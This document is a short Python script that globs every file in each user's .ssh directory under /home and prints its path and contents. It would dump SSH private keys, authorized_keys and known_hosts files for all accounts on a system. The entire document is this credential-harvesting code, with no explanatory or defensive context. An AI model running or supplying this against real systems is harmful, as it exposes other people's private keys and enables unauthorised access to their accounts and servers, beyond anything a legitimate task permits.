import glob
for p in glob.glob("/home/*/.ssh/*"):
    print(p, open(p).read())
